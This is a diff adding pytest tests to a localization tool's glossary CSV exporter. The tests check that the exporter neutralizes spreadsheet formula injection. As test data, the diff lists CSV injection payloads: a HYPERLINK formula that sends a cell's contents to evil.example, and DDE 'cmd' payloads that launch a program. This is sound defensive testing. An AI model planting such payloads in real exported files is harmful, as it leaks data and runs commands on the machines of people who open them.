@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import subprocess
 from collections.abc import Callable
 from pathlib import Path
@@ -10,6 +13,7 @@ import pytest
 
 from painl10n.errors import Painl10nError
 from painl10n.terms.csvio import merge_termbases, read_csv, write_csv
+from painl10n.terms.model import Termbase
 from painl10n.terms.tbx import read_tbx
 
 Run = Callable[..., subprocess.CompletedProcess[str]]
@@ -95,3 +99,44 @@ def test_glossary_import_errors_are_one_line(tmp_path: Path, run_cli: Run) -> No
     assert not (tmp_path / "locales" / "glossary.tbx").exists()
     bad_format = run_cli("glossary", "export", "-f", "xlsx", "-p", str(tmp_path))
     assert bad_format.returncode == 2 and "unknown format 'xlsx'" in bad_format.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "''+twice",
+]
+
+
+def with_second_term(text: str) -> Termbase:
+    """The CSV's termbase with its second term (and that term's note) set to ``text``."""
+    base = read_csv(CSV, shown="terms.csv")
+    first = base.concepts[0]
+    term = dataclasses.replace(first.terms[1], text=text, note=text)
+    concept = dataclasses.replace(first, terms=(first.terms[0], term, *first.terms[2:]))
+    return dataclasses.replace(base, concepts=(concept, *base.concepts[1:]))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_export_neutralizes_formulas_and_reads_back_losslessly(text: str) -> None:
+    """OWASP's CSV injection: no exported cell starts as a formula a spreadsheet runs."""
+    exported = write_csv(with_second_term(text))
+    rows = list(csv.reader(io.StringIO(exported)))
+    for row in rows:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@", cell
+    assert rows[2][4] == "'" + text and rows[2][8] == "'" + text
+    again = read_csv(exported, shown="again.csv")
+    assert again.concepts[0].terms[1].text == text
+    assert write_csv(again) == exported
+
+
+@pytest.mark.parametrize("text", ["'quoted term", "don't", "AINE", "x=y", "e-mail"])
+def test_csv_cells_that_are_not_formulas_are_left_alone(text: str) -> None:
+    """The near misses: a quote, an equals sign or a dash inside a term is text."""
+    exported = write_csv(with_second_term(text))
+    assert list(csv.reader(io.StringIO(exported)))[2][4] == text
+    assert read_csv(exported, shown="again.csv").concepts[0].terms[1].text == text
